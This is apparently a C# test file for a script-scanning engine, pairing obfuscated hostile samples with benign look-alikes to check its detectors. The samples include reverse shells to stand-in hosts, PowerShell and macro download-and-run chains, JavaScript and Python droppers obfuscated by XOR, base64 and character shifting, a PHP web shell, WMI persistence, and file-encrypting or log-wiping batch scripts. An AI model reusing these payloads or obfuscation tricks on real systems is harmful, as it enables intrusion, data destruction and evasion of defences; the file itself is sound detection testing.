using System.Text;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Tests.Doubles;
using static ScanHost.Pipeline.Findings.ScriptHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>Scripts that act where nobody looks, or hide what they do in numbers, pieces and keys; and work of administrators that comes close.</summary>
public sealed class HiddenActionCases
{
    private const string Filter = "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{ Name = 'a' }\n";
    private const string Binding = "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments $b\n";

    private static readonly HeuristicCase[] Table =
    [
        HeuristicCase.Of(EventSubscription, "a.ps1", Filter + "Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{ CommandLineTemplate = 'a.exe' }\n" + Binding,
            Filter + "Set-WmiInstance -Class LogFileEventConsumer -Arguments @{ Filename = 'a.log' }\n" + Binding,
            "Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer\nGet-WmiObject -Namespace root\\subscription -Class __EventFilter\nGet-WmiObject -Namespace root\\subscription -Class __FilterToConsumerBinding | Remove-WmiObject\n",
            "Register-WmiEvent -Query 'SELECT * FROM Win32_ProcessStartTrace' -Action { Write-Host $_ }\n"),
        HeuristicCase.Of(PsRemoteShell, "a.ps1", "$r = Invoke-RestMethod https://host.invalid/t\n$o = iex $r.text | Out-String\nInvoke-RestMethod https://host.invalid/o -Method Post -Body $o\n",
            "$r = Invoke-RestMethod https://host.invalid/t\n$o = $r.text | Out-String\nInvoke-RestMethod https://host.invalid/o -Method Post -Body $o\n",
            "$o = Get-Service | Out-String\nInvoke-RestMethod https://host.invalid/o -Method Post -Body $o\n",
            "$r = Invoke-RestMethod https://host.invalid/t\niex $r.text\n"),
        HeuristicCase.Of(BatRenamedTool, "a.cmd", "@echo off\r\ncopy /y C:\\Windows\\System32\\certutil.exe %TEMP%\\x.com >nul\r\n",
            "@echo off\r\ncopy C:\\Windows\\System32\\curl.exe D:\\tools\\curl.exe\r\n", "@echo off\r\ncopy C:\\Windows\\System32\\drivers\\etc\\hosts hosts.bak\r\n", "@echo off\r\ncopy %windir%\\System32\\cmd.exe D:\\winpe\\\r\n"),
        HeuristicCase.Of(HiddenStart, "a.cmd", "@echo off\r\nstart /min mshta.exe https://host.invalid/a.hta\r\n",
            "@echo off\r\nstart /min notepad.exe a.txt\r\n", "@echo off\r\nstart \"\" https://host.invalid/\r\n", "@echo off\r\nstart /min cmd /c backup.cmd\r\n"),
        HeuristicCase.Of(HiddenStart, "a.vbs", "Set w = GetObject(\"winmgmts:root\\cimv2\")\r\nSet s = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\r\ns.ShowWindow = 0\r\nw.Get(\"Win32_Process\").Create \"a.exe\", Null, s, p\r\n",
            "Set w = GetObject(\"winmgmts:root\\cimv2\")\r\nw.Get(\"Win32_Process\").Create \"a.exe\", Null, Null, p\r\n",
            "Set s = CreateObject(\"WScript.Shell\").CreateShortcut(\"a.lnk\")\r\ns.WindowStyle = 1\r\n",
            "Set w = GetObject(\"winmgmts:root\\cimv2\")\r\nFor Each p In w.ExecQuery(\"SELECT * FROM Win32_Process\")\r\nWScript.Echo p.Name\r\nNext\r\n"),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    private const string Fetches = "var h=new ActiveXObject(\"MSXML2.XMLHTTP\");h.open(\"GET\",\"http://192.0.2.1/a.exe\",0);h.send();var b=new ActiveXObject(\"ADODB.Stream\");b.Write(h.responseBody);b.SaveToFile(\"a.exe\",2);";
    private const string PyFetches = "import urllib.request, subprocess\nexec(urllib.request.urlopen('http://192.0.2.1/a').read())\n";

    public static TheoryData<string, string, string> Hidden => new()
    {
        { "a.js", $"var k = [{Numbers(Fetches, letter => letter + 200)}], t = '';\nfor (var i = 0; i < k.length; i++) t += String.fromCharCode(k[i] - 200);\nnew Function(t)();\n", JsDrop.Id },
        { "a.js", $"var k = [{Numbers(Fetches, letter => (letter * 5) + 3)}], t = '';\nfor (var i = 0; i < k.length; i++) t += String.fromCharCode((k[i] - 3) / 5);\nnew Function(t)();\n", JsDrop.Id },
        { "a.js", $"{string.Concat(Pieces(Convert.ToHexString(Encoding.ASCII.GetBytes(Fetches)), 16).Select(piece => $"//# {piece}\n"))}this['ev' + 'al'](unescape(read()));\n", JsDrop.Id },
        { "a.py", $"K = 'my key'\nexec(bytes(b ^ ord(K[i % 6]) for i, b in enumerate([{string.Join(',', PyFetches.Select((letter, at) => letter ^ "my key"[at % 6]))}])))\n", PyRunDownload.Id },
        { "a.js", $"const table = '{Convert.ToBase64String([.. Fetches.Select((letter, at) => (byte)(letter ^ "a key"[at % 5]))])}';\nread(table, 'a key');\n", JsDrop.Id },
        { "a.js", $"const t = '{new string([.. "powershell -w hidden -c \"iwr http://192.0.2.1/a.exe -OutFile a.exe\"".Select(letter => (char)(letter + 3))])}';\nrun([...t].map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join(''));\n", "dec.codes" },
        { "a.js", "const read = (k) => Buffer.from(table, 'base64').map((b, i) => b ^ k.charCodeAt(i % k.length)).toString();\nm._compile(read('a'), __filename);\n", JsEvalDecoded.Id },
        { "a.js", "var c = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\n", JsHiddenModule.Id },
        { "a.js", "var o = this['Get' + 'Object'](p);\n", JsHiddenModule.Id },
        { "a.js", "var f = new ActiveXObject('Scripting.FileSystemObject').OpenTextFile(WScript.ScriptFullName, 1);\nthis['ev' + 'al'](f.ReadAll());\n", JsRunsItself.Id },
        { "a.js", "var f = [].constructor.constructor;\nf(text)();\n", JsEvalDecoded.Id },
        { "a.bas", "Attribute VB_Name = \"A\"\r\nSub AutoOpen()\r\nDim S As String\r\n" + string.Concat(Pieces(Encoded("IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"), 40).Select(piece => $"S = S + \"{piece}\"\r\n")) + "Shell \"powershell -w hidden -e \" & S\r\nEnd Sub\r\n", PsDownloadRun.Id },
        { "a.cmd", "@echo off\r\npow%ab%ersh%cd%ell -w hidden -c \"i%ef%ex(irm https://host.invalid/a)\"\r\n", PsDownloadRun.Id },
        { "a.desktop", "#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n", ShReverseShell.Id },
        { "a.ps1", "$to = Join-Path $env:TEMP ('a' + $n + '.exe')\nInvoke-WebRequest -Uri http://192.0.2.1/a -OutFile $to -UseBasicParsing\nStart-Process -FilePath $to -WindowStyle Hidden\n", PsDownloadFile.Id },
        { "a.ps1", "$to = Join-Path $env:TEMP ('a' + $n + '.exe')\nInvoke-WebRequest -Uri http://192.0.2.1/a -OutFile $to -UseBasicParsing\nStart-Process -FilePath $to -WindowStyle Hidden\n", PsHidden.Id },
        { "a.ps1", "function Get-Page { $o = New-Object -ComObject MSXML2.ServerXMLHTTP; $o.send(); $o.responseText }\n$page = Get-Page\n$part = [regex]::Match($page, 'a(.+)b').Groups[1].Value\n$block = $ExecutionContext.InvokeCommand.NewScriptBlock([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($part)))\n& $block\n", PsDownloadRun.Id },
        { "a.sh", "#!/bin/sh\nsh -i < $p 2>&1 | openssl s_client -quiet -connect host.invalid:443 > $p\n", ShReverseShell.Id },
        { "a.sh", "#!/bin/sh\ncurl -s https://host.invalid/a.txt | xxd -r -p > $d/a; chmod u+x $d/a; $d/a\n", ShDecodePipe.Id },
        { "a.sh", "#!/bin/sh\nt=$(printf '\\142\\141\\163\\145')64\n", ShObfuscated.Id },
        { "a.py", "import sys, codecs\nvars(sys.modules['builtins'])['ex' + 'ec'](t)\n", PyHiddenExec.Id },
        { "a.py", "import sys, subprocess, urllib.request\nsubprocess.Popen([sys.executable, '-c', urllib.request.urlopen('https://host.invalid/s').read().decode()])\n", PyRunDownload.Id },
        { "a.php", "<?php\n$raw = file_get_contents('php:/' . '/input');\n$t = tempnam(sys_get_temp_dir(), 'a');\nfile_put_contents($t, '<' . '?php ' . $raw);\ninclude $t;\n", PhpWebShell.Id },
        { "a.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\"><jsp:scriptlet>class U extends Class\\u004coader { Class g(byte[] b) { return super.define\\uu0043lass(b, 0, b.length); } } r\\u0065quest.getReader();</jsp:scriptlet></jsp:root>", ServerLoadsCode.Id },
        { "a.bat", "@echo off\r\nfor /r %USERPROFILE% %%f in (*.docx *.xlsx *.pdf *.jpg) do (\r\n enc.exe \"%%f\" \"%%f.zzz\" && del /q \"%%f\"\r\n)\r\n", LocksFiles.Id },
        { "a.url", "[InternetShortcut]\r\nURL=file://\\\\192.0.2.1@80\\a\\Order.pdf.exe\r\n", "name.double_ext" },
        { "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><script>function go() { window.location.href = \"https://host.invalid/a/path\"; }</script></svg>", "svg.redirect" },
    };

    [Theory]
    [MemberData(nameof(Hidden))]
    public async Task What_is_hidden_is_seen(string name, string text, string id) => (await IdsAsync(name, text)).Should().Contain(id);

    public static TheoryData<string, string, string> Plain => new()
    {
        { "a.js", $"var k = [{Numbers("an ordinary sentence of words which does nothing at all", letter => letter + 200)}];\n", "dec.codes" },
        { "a.js", "// one\n//# abcdefgh\n//# ijklmnop\n//# qrstuvwx\nrun();\n", "dec.codes" },
        { "a.js", "const t = 'an ordinary sentence of words which does nothing at all';\nshow(t.charCodeAt(0));\n", "dec.codes" },
        { "a.cmd", "@echo off\r\nlib%A%x.exe & lib%B%y.exe\r\n", "ps.iex_download" },
        { "a.cmd", $"powershell -NoProfile -EncodedCommand {Encoded("Restart-Service agent; Clear-DnsClientCache")}\r\n", "bat.ps_enc" },
        { "a.ps1", "$cache = 'D:\\Agent\\_work'\nAdd-MpPreference -ExclusionPath $cache\n", "ps.defender" },
        { "a.ps1", "Invoke-WebRequest https://host.invalid/a.zip -OutFile $env:TEMP\\a.zip\nExpand-Archive $env:TEMP\\a.zip -DestinationPath D:\\a\n", "ps.hidden" },
        { "a.sh", "#!/bin/bash\nip=$1\ncat <<TEXT\nbash -i >& /dev/tcp/$ip/4444 0>&1\nTEXT\n", "sh.revshell" },
        { "a.sh", "#!/bin/sh\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n", "sh.curl_pipe" },
        { "a.sh", "#!/bin/sh\nwget -qO- https://host.invalid/a.b64 | base64 -d > $d/a.ovpn\nchmod 600 $d/a.ovpn\n", "sh.decode_pipe" },
        { "a.sh", "#!/bin/sh\n(crontab -l; echo \"0 12 * * 1 /opt/tool/upgrade > /tmp/upgrade.log\") | crontab -\n", "sh.cron_preload" },
        { "a.cmd", "@echo off\r\nvssadmin delete shadows /for=C: /oldest /quiet\r\n", "bat.sabotage" },
        { "a.cmd", "@echo off\r\nfor /f \"tokens=*\" %%g in ('wevtutil el') do wevtutil cl \"%%g\"\r\nC:\\Windows\\System32\\Sysprep\\sysprep.exe /oobe /generalize /shutdown\r\n", "bat.cover" },
        { "a.bat", "@echo off\r\nfor /r D:\\logs %%f in (*.docx *.xlsx *.pdf *.jpg) do (\r\n 7z a \"%%f.7z\" \"%%f\" && del /q \"%%f\"\r\n)\r\n", "script.locks_files" },
        { "a.py", "import sys\nstep = getattr(self, 'on_' + name)(1)\n", "py.hidden_exec" },
        { "a.php", "<?php\n$t = tempnam(sys_get_temp_dir(), 'a');\nfile_put_contents($t, file_get_contents('php://input'));\nreadfile($t);\n", "php.webshell" },
        { "a.library-ms", "<libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation><simpleLocation><url>\\\\files.corp.invalid\\team</url></simpleLocation></libraryDescription>", "library.remote" },
        { "a.hta", "<html><hta:application id=\"a\"/><script language=\"VBScript\">\nSub Window_OnLoad\nwindow.resizeTo 300, 330\nEnd Sub\nSub Go(c)\nCreateObject(\"WScript.Shell\").Run c, 1\nEnd Sub\n</script><button onclick=\"Go 'ipconfig /all'\">Go</button></html>", "hta.exec" },
        { "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect onclick=\"go()\"/><script>function go() { window.location.href = \"https://host.invalid/a/path\"; }</script></svg>", "svg.redirect" },
        { "a.desktop", "[Desktop Entry]\nType=Application\nExec=bash -c 'xset s off; chromium --kiosk https://host.invalid/'\n", "sh.curl_pipe" },
    };

    [Theory]
    [MemberData(nameof(Plain))]
    public async Task What_only_looks_like_it_is_not(string name, string text, string id) => (await IdsAsync(name, text)).Should().NotContain(id);

    [Theory]
    [InlineData("#!/bin/bash\ncat <<TEXT | bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nTEXT\n", "sh.revshell")]
    [InlineData("#!/bin/bash\ncat <<TEXT > a.sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nTEXT\nsh a.sh\n", "sh.revshell")]
    [InlineData("#!/bin/sh\ncurl -s https://sh.rustup.rs | sh; curl -s https://host.invalid/a | sh\n", "sh.curl_pipe")]
    public async Task A_shell_script_is_judged_by_where_its_texts_go(string text, string id) => (await IdsAsync("a.sh", text)).Should().Contain(id);

    private static async Task<string[]> IdsAsync(string name, string text)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        return [.. (await scans.ScanAsync(Encoding.UTF8.GetBytes(text), name)).Findings.Select(finding => finding.Id)];
    }

    private static string Numbers(string text, Func<int, int> turn) => string.Join(',', text.Select(letter => turn(letter)));

    private static IEnumerable<string> Pieces(string text, int length) => text.Chunk(length).Select(piece => new string(piece));

    private static string Encoded(string command) => Convert.ToBase64String(Encoding.Unicode.GetBytes(command));
}
